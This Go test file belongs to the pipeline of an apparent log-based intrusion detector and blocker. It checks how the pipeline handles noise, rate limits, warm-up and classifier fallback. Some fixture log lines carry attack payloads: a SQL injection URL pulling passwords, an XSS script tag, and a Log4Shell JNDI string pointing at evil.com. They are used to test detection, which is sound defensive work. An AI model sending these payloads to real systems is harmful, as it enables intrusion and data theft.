package pipeline

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"sync"
	"testing"
	"time"

	"logward/internal/blocker"
	"logward/internal/botverify"
	"logward/internal/config"
	"logward/internal/database"
	"logward/internal/domain"
	"logward/internal/geolite"
	"logward/internal/notify"
	"logward/internal/ratelimit"
	"logward/internal/resolver"

	"gorm.io/driver/sqlite"
	"gorm.io/gorm"
)

func setupPipelineTestDB(t *testing.T) {
	t.Helper()
	dsn := "file:" + t.Name() + "?mode=memory&cache=shared"
	db, err := gorm.Open(sqlite.Open(dsn), &gorm.Config{})
	if err != nil {
		t.Fatalf("open sqlite database: %v", err)
	}
	if err := db.AutoMigrate(&domain.BlockRecord{}, &domain.AttackEvent{}); err != nil {
		t.Fatalf("auto migrate: %v", err)
	}
	database.DB = db
	t.Cleanup(func() { database.DB = nil })
}

type noProxies struct{}

func (noProxies) IsTrustedProxy(string) bool { return false }

type noBots struct{}

func (noBots) Verify(context.Context, string, string) botverify.Result {
	return botverify.Result{}
}

type recordingBackend struct {
	mu       sync.Mutex
	enforced []string
}

func (r *recordingBackend) Name() string { return "iptables" }

func (r *recordingBackend) Enforce(_ context.Context, ip, _ string) (string, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.enforced = append(r.enforced, ip)
	return "", nil
}

func (r *recordingBackend) Lift(context.Context, string, string) error { return nil }

type recordingNotifier struct {
	mu     sync.Mutex
	alerts []notify.Alert
}

func (r *recordingNotifier) SendAlert(_ context.Context, alert notify.Alert) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.alerts = append(r.alerts, alert)
	return nil
}

func (r *recordingNotifier) SendEnrichment(context.Context, notify.Alert, string) error {
	return nil
}

type stubClassifier struct {
	verdict *domain.AIVerdict
	err     error
	calls   int
}

func (s *stubClassifier) Classify(context.Context, string) (*domain.AIVerdict, error) {
	s.calls++
	return s.verdict, s.err
}

func newTestOrchestrator(t *testing.T, floor domain.RiskLevel) (*Orchestrator, *recordingBackend, *recordingNotifier) {
	t.Helper()
	setupPipelineTestDB(t)
	wl, err := blocker.LoadWhitelist(filepath.Join(t.TempDir(), "whitelist.json"))
	if err != nil {
		t.Fatalf("LoadWhitelist: %v", err)
	}
	local := &recordingBackend{}
	def := blocker.New(blocker.Settings{
		OffenseWindow:            time.Minute,
		PermBlockAfterTempBlocks: 3,
		TempBlockMin:             30 * time.Minute,
		TempBlockMax:             2 * time.Hour,
	}, wl, noProxies{}, noBots{}, nil, nil, local)

	limiter := ratelimit.New(ratelimit.Settings{
		Window:              10 * time.Second,
		MaxRequestsPerSec:   100,
		MaxUniqueEndpoints:  50,
		MaxErrorRatePercent: 90,
	})
	notifier := &recordingNotifier{}
	o := New(resolver.New(noProxies{}), limiter, def, notifier, geolite.Open(""), nil, NewStats(), floor)
	return o, local, notifier
}

func accessSource() config.LogSource {
	return config.LogSource{Name: "access", Path: "/var/log/nginx/access.log", Kind: "http"}
}

func waitForAlerts(t *testing.T, n *recordingNotifier, want int) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		n.mu.Lock()
		got := len(n.alerts)
		n.mu.Unlock()
		if got >= want {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %d alerts", want)
}

func TestNoiseLinesDropped(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /favicon.ico HTTP/1.1" 404 153 "-" "Mozilla/5.0"`
	if got := o.HandleLine(context.Background(), accessSource(), line); got.Outcome != OutcomeNoise {
		t.Fatalf("outcome = %s, want noise", got.Outcome)
	}
}

func TestCleanLineNoAction(t *testing.T) {
	o, local, _ := newTestOrchestrator(t, domain.RiskMedium)
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	got := o.HandleLine(context.Background(), accessSource(), line)
	if got.Outcome != OutcomeClean {
		t.Fatalf("outcome = %s, want clean", got.Outcome)
	}
	if len(local.enforced) != 0 {
		t.Fatalf("clean line triggered enforcement: %v", local.enforced)
	}
}

func TestSQLInjectionBlocksAndAudits(t *testing.T) {
	o, local, notifier := newTestOrchestrator(t, domain.RiskMedium)
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /products?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 512 "-" "sqlmap/1.7"`
	got := o.HandleLine(context.Background(), accessSource(), line)
	if got.Outcome != OutcomeHandled {
		t.Fatalf("outcome = %s, want handled", got.Outcome)
	}
	if got.Action != domain.ActionTempBlock {
		t.Fatalf("action = %s, want temp_block", got.Action)
	}
	local.mu.Lock()
	enforced := len(local.enforced)
	local.mu.Unlock()
	if enforced != 1 {
		t.Fatalf("expected 1 enforcement, got %d", enforced)
	}

	var events []domain.AttackEvent
	if err := database.DB.Find(&events).Error; err != nil {
		t.Fatalf("loading audit events: %v", err)
	}
	if len(events) != 1 {
		t.Fatalf("expected 1 audit event, got %d", len(events))
	}
	if events[0].SourceIP != "203.0.113.7" || events[0].Action != domain.ActionTempBlock {
		t.Fatalf("unexpected audit event: %+v", events[0])
	}
	if !slices.Contains(events[0].Categories, events[0].Category) {
		t.Fatalf("audit event categories = %v, want to include %s", events[0].Categories, events[0].Category)
	}
	waitForAlerts(t, notifier, 1)
}

func TestReportingFloorStopsLowRisk(t *testing.T) {
	o, local, _ := newTestOrchestrator(t, domain.RiskHigh)
	// XSS is a MEDIUM signature; with the floor at HIGH it must stop after
	// statistics.
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /search?q=<script>alert(1)</script> HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	got := o.HandleLine(context.Background(), accessSource(), line)
	if got.Outcome != OutcomeBelowFloor {
		t.Fatalf("outcome = %s, want below_floor", got.Outcome)
	}
	if len(local.enforced) != 0 {
		t.Fatal("below-floor detection must not be enforced")
	}
	if o.Stats().Snapshot().Detections == 0 {
		t.Fatal("detection statistics not updated")
	}
}

func TestWarmupSuppressesEnforcement(t *testing.T) {
	o, local, _ := newTestOrchestrator(t, domain.RiskMedium)
	o.StartWarmup(time.Minute)
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /cgi-bin/test?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D HTTP/1.1" 200 512 "-" "curl/8.0"`
	got := o.HandleLine(context.Background(), accessSource(), line)
	if got.Outcome != OutcomeHandled {
		t.Fatalf("outcome = %s, want handled", got.Outcome)
	}
	if got.Action != "suppressed" {
		t.Fatalf("action = %s, want suppressed", got.Action)
	}
	if len(local.enforced) != 0 {
		t.Fatalf("warm-up leaked enforcement: %v", local.enforced)
	}
}

func TestSamplingSkipsLines(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	src := accessSource()
	src.SampleEvery = 3
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`

	sampled, processed := 0, 0
	for i := 0; i < 9; i++ {
		switch o.HandleLine(context.Background(), src, line).Outcome {
		case OutcomeSampled:
			sampled++
		case OutcomeClean:
			processed++
		}
	}
	if processed != 3 || sampled != 6 {
		t.Fatalf("sampling every 3rd: processed=%d sampled=%d", processed, sampled)
	}
}

func TestMethodFilter(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	src := accessSource()
	src.Methods = []string{"POST"}
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	if got := o.HandleLine(context.Background(), src, line); got.Outcome != OutcomeFiltered {
		t.Fatalf("outcome = %s, want filtered", got.Outcome)
	}
}

func TestAuthSourceFallback(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	src := config.LogSource{Name: "sshd", Path: "/var/log/auth.log", Kind: "auth"}
	line := `Aug 10 12:00:00 web sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 51122 ssh2`
	got := o.HandleLine(context.Background(), src, line)
	if got.Outcome != OutcomeHandled {
		t.Fatalf("outcome = %s, want handled", got.Outcome)
	}
	if got.Category != "auth_failure" {
		t.Fatalf("category = %s, want auth_failure", got.Category)
	}
	if got.Action != domain.ActionLogged {
		t.Fatalf("first auth failure action = %s, want logged", got.Action)
	}
}

func TestRequestRateTriggersImmediateBlock(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	o.limiter.UpdateSettings(ratelimit.Settings{
		Window:              10 * time.Second,
		MaxRequestsPerSec:   1,
		MaxUniqueEndpoints:  1000,
		MaxErrorRatePercent: 100,
	})
	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`

	var last Result
	for i := 0; i < 30; i++ {
		last = o.HandleLine(context.Background(), accessSource(), line)
		if last.Outcome == OutcomeHandled {
			break
		}
	}
	if last.Outcome != OutcomeHandled {
		t.Fatalf("rate limit never triggered, last outcome %s", last.Outcome)
	}
	if last.Category != "rate_limit_"+domain.MetricRequestRate {
		t.Fatalf("category = %s, want rate_limit_%s", last.Category, domain.MetricRequestRate)
	}
	// Immediate escalation skips the logged stage.
	if last.Action != domain.ActionTempBlock {
		t.Fatalf("action = %s, want temp_block", last.Action)
	}
}

func TestClassifierConsultedWhenSignaturesMiss(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	stub := &stubClassifier{verdict: &domain.AIVerdict{
		RiskLevel: domain.RiskHigh,
		Summary:   "novel exploitation attempt",
	}}
	o.classifier = stub

	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	got := o.HandleLine(context.Background(), accessSource(), line)
	if stub.calls != 1 {
		t.Fatalf("classifier called %d times, want 1", stub.calls)
	}
	if got.Category != "ai_classifier" || got.Risk != domain.RiskHigh {
		t.Fatalf("unexpected result: %+v", got)
	}
}

func TestClassifierFailureIsNoVerdict(t *testing.T) {
	o, _, _ := newTestOrchestrator(t, domain.RiskMedium)
	o.classifier = NewCooldownClassifier(&stubClassifier{err: errors.New("upstream down")}, time.Second, time.Minute)

	line := `203.0.113.7 - - [10/Aug/2026:12:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	if got := o.HandleLine(context.Background(), accessSource(), line); got.Outcome != OutcomeClean {
		t.Fatalf("classifier failure produced outcome %s, want clean", got.Outcome)
	}
}

func TestCooldownClassifierBacksOff(t *testing.T) {
	stub := &stubClassifier{err: errors.New("upstream down")}
	c := NewCooldownClassifier(stub, time.Second, time.Minute)
	ctx := context.Background()

	for i := 0; i < 5; i++ {
		if v, err := c.Classify(ctx, "line"); v != nil || err != nil {
			t.Fatalf("expected silent no-verdict, got %v, %v", v, err)
		}
	}
	if stub.calls != 1 {
		t.Fatalf("inner classifier called %d times during cooldown, want 1", stub.calls)
	}
}

func TestTailFileDeliversAppendedLines(t *testing.T) {
	path := filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(path, []byte("old line\n"), 0o644); err != nil {
		t.Fatalf("seeding log file: %v", err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	lines := make(chan string, 10)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = tailFile(ctx, path, func(line string) { lines <- line })
	}()

	// Give the tailer a moment to seek to the end before appending.
	time.Sleep(200 * time.Millisecond)
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatalf("opening log for append: %v", err)
	}
	if _, err := f.WriteString("new line 1\nnew line 2\n"); err != nil {
		t.Fatalf("appending: %v", err)
	}
	f.Close()

	want := []string{"new line 1", "new line 2"}
	for _, expected := range want {
		select {
		case got := <-lines:
			if got != expected {
				t.Fatalf("got line %q, want %q", got, expected)
			}
		case <-time.After(3 * time.Second):
			t.Fatalf("timed out waiting for %q", expected)
		}
	}
	cancel()
	<-done
}
